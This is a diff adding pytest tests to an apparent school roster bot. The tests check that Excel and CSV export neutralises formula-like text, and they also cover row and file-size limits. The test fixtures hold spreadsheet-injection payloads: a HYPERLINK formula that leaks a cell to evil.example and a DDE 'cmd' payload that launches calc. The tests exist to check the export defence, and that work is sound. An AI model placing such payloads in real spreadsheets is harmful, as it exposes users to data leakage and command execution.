@@ -6,14 +6,16 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 from sqlalchemy import func, select
 
 from bot.clock import FixedClock
 from bot.roster.exporter import export_roster
 from bot.roster.importer import import_roster
+from bot.roster.reader import RosterReadError, read_roster
 from bot.roster.schema import SHEETS
 from bot.roster.template import write_template
+from bot.settings import RosterSettings
 from bot.store.db import Database
 from bot.store.tables import (
     ClassGroup,
@@ -225,3 +227,139 @@ async def test_money_is_stored_in_fen(db: Database, tmp_path: Path) -> None:
     await run_import(db, write_workbook(tmp_path / "a.xlsx", rows))
     async with db.transaction() as s:
         assert await s.scalar(select(Course.price_fen).where(Course.name == "篮球")) == 2050
+
+
+FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+王小明", "-李华", "@张一一", "=1+1", "-"]
+
+
+def _formula_like_rows() -> dict[str, list[list[object]]]:
+    rows = demo_rows()
+    for index, value in enumerate(FORMULA_LIKE):
+        rows["学生"][index][1] = value  # 姓名
+        rows["学生"][index][9] = value  # 备注
+    rows["家长"][0][1] = rows["家长"][1][1] = "=cmd|' /C calc'!A0"  # one guardian, two children
+    rows["学生"][6][9] = "\t=1+2"  # a note that begins with a tab
+    rows["学生"][7][9] = "=SUM(1,2)\r\n第二行"
+    return rows
+
+
+async def test_export_writes_formula_like_text_as_text(db: Database, tmp_path: Path) -> None:
+    await run_import(db, write_workbook(tmp_path / "a.xlsx", _formula_like_rows()))
+    out = tmp_path / "export.xlsx"
+    await export_roster(db, out, school_name=SCHOOL)
+    wb = load_workbook(out)
+    cells = [c for name in ("学生", "家长") for row in wb[name].iter_rows(min_row=2) for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert len(risky) >= 2 * len(FORMULA_LIKE) + 2
+    assert all(c.quotePrefix for c in risky)  # Excel keeps it text when the cell is edited, too
+    names = [r[1] for r in wb["学生"].iter_rows(min_row=2, values_only=True)]
+    assert names[: len(FORMULA_LIKE)] == FORMULA_LIKE
+    phones = [r[3] for r in wb["家长"].iter_rows(min_row=2, values_only=True)]
+    assert all(isinstance(p, str) and len(p) == 11 for p in phones)
+
+
+async def test_export_then_import_of_formula_like_text_changes_nothing(db: Database, tmp_path: Path) -> None:
+    first = await run_import(db, write_workbook(tmp_path / "a.xlsx", _formula_like_rows()))
+    assert first.ok, first.render()
+    async with db.transaction() as s:
+        stored = sorted((await s.execute(select(Student.student_no, Student.name, Student.note))).all())
+        guardians = sorted((await s.execute(select(Guardian.name, Guardian.phone))).all())
+    out = tmp_path / "export.xlsx"
+    await export_roster(db, out, school_name=SCHOOL)
+    before = await counts(db)
+    result = await run_import(db, out)
+    assert result.ok and not result.changed, result.render()
+    assert await counts(db) == before
+    async with db.transaction() as s:
+        assert sorted((await s.execute(select(Student.student_no, Student.name, Student.note))).all()) == stored
+        assert sorted((await s.execute(select(Guardian.name, Guardian.phone))).all()) == guardians
+    assert ("D3201", FORMULA_LIKE[0], FORMULA_LIKE[0]) in stored
+
+
+async def test_csv_with_formula_like_text_exports_and_reimports_unchanged(db: Database, tmp_path: Path) -> None:
+    rows = demo_rows()
+    rows["学生"][0][1] = "=1+1"
+    rows["学生"][0][9] = "-过敏\r\n@花生"  # a CRLF inside a quoted CSV cell
+    paths = [write_csv(tmp_path / f"{name}.csv", name, rows[name]) for name in rows]
+    assert (await run_import(db, *paths)).ok
+    out = tmp_path / "export.xlsx"
+    await export_roster(db, out, school_name=SCHOOL)
+    result = await run_import(db, out)
+    assert result.ok and not result.changed, result.render()
+    async with db.transaction() as s:
+        assert (await s.execute(select(Student.name, Student.note).where(Student.student_no == "D3201"))).one() == (
+            "=1+1", "-过敏\n@花生")
+
+
+def _students(count: int) -> list[list[object]]:
+    return [[f"B{i:05d}", f"学生{i}", "三年级2班", "", "", "是", "无", "", "", ""] for i in range(count)]
+
+
+async def test_too_many_rows_in_a_csv_is_refused_before_anything_is_written(db: Database, tmp_path: Path) -> None:
+    rows = demo_rows()
+    rows["学生"] += _students(30)
+    paths = [write_csv(tmp_path / f"{name}.csv", name, rows[name]) for name in rows]
+    total = sum(len(r) for r in rows.values())
+    result = await import_roster(db, paths, school_name=SCHOOL, clock=CLOCK,
+                                 limits=RosterSettings(max_rows=total - 1))
+    assert not result.ok
+    assert result.errors == [
+        f"花名册行数太多: 至少 {total} 行,超过上限 {total - 1} 行(roster.max_rows)。"
+        "请按年级或班级拆成几个文件分批导入,如 tuoguan roster import 三年级.xlsx"
+    ]
+    assert set((await counts(db)).values()) == {0}
+    at_limit = await import_roster(db, paths, school_name=SCHOOL, clock=CLOCK, limits=RosterSettings(max_rows=total))
+    assert at_limit.ok, at_limit.render()
+
+
+async def test_too_many_rows_in_a_workbook_names_its_declared_size(db: Database, tmp_path: Path) -> None:
+    rows = demo_rows()
+    rows["学生"] += _students(300)
+    path = write_workbook(tmp_path / "big.xlsx", rows)
+    result = await import_roster(db, [path], school_name=SCHOOL, clock=CLOCK, limits=RosterSettings(max_rows=100))
+    assert result.errors == [
+        f"花名册行数太多: 约 {len(rows['班级']) + 320} 行,超过上限 100 行(roster.max_rows)。"
+        "请按年级或班级拆成几个文件分批导入,如 tuoguan roster import 三年级.xlsx"
+    ]
+    assert set((await counts(db)).values()) == {0}
+
+
+async def test_too_big_a_file_is_refused_by_its_size_before_it_is_opened(db: Database, tmp_path: Path) -> None:
+    big = tmp_path / "花名册.xlsx"
+    big.write_bytes(b"x" * 3 * 1024 * 1024)  # not even a workbook: the size is checked first
+    result = await import_roster(db, [big], school_name=SCHOOL, clock=CLOCK,
+                                 limits=RosterSettings(max_bytes=2 * 1024 * 1024))
+    assert result.errors == [
+        "花名册文件太大: 花名册.xlsx 共 3.0 MB,超过上限 2.0 MB(roster.max_bytes)。"
+        "请按年级或班级拆成几个文件分批导入,如 tuoguan roster import 三年级.xlsx"
+    ]
+    rows = demo_rows()
+    paths = [write_csv(tmp_path / f"{name}.csv", name, rows[name]) for name in rows]
+    size = sum(p.stat().st_size for p in paths)
+    several = await import_roster(db, paths, school_name=SCHOOL, clock=CLOCK, limits=RosterSettings(max_bytes=size - 1))
+    assert several.errors[0].startswith("花名册文件太大: 班级.csv 等 5 个文件 共 0.0 MB")
+    assert (await import_roster(db, paths, school_name=SCHOOL, clock=CLOCK, limits=RosterSettings(max_bytes=size))).ok
+
+
+def test_a_workbook_without_a_declared_size_stops_at_the_limit(tmp_path: Path) -> None:
+    wb = Workbook(write_only=True)  # writes no <dimension>: the reader cannot tell the size up front
+    ws = wb.create_sheet("学生")
+    ws.append([c.header for c in SHEETS["学生"]])
+    for row in _students(50):
+        ws.append(row)
+    wb.save(tmp_path / "w.xlsx")
+    with pytest.raises(RosterReadError) as refused:
+        read_roster([tmp_path / "w.xlsx"], RosterSettings(max_rows=20))
+    assert str(refused.value).startswith("花名册行数太多: 超过上限 20 行(roster.max_rows)。")
+    assert read_roster([tmp_path / "w.xlsx"], RosterSettings(max_rows=50))["学生"].rows[-1].text("学籍号") == "B00049"
+
+
+def test_a_file_of_empty_rows_is_not_read_to_its_end(tmp_path: Path) -> None:
+    path = tmp_path / "学生.csv"
+    path.write_text("学籍号,姓名,班级\nA1,王一,三年级2班\n" + ",,\n" * 100 + "A2,王二,三年级2班\n", encoding="utf-8")
+    with pytest.raises(RosterReadError) as refused:
+        read_roster([path], RosterSettings(max_rows=20))
+    assert str(refused.value) == ("花名册空行太多: 读到第 41 行仍未结束(其中有内容的 1 行),超过上限 20 行(roster.max_rows)的两倍。"
+                                  "请删除表中多余的空行后再导入。")
+    assert [r.text("学籍号") for r in read_roster([path], RosterSettings(max_rows=60))["学生"].rows] == ["A1", "A2"]
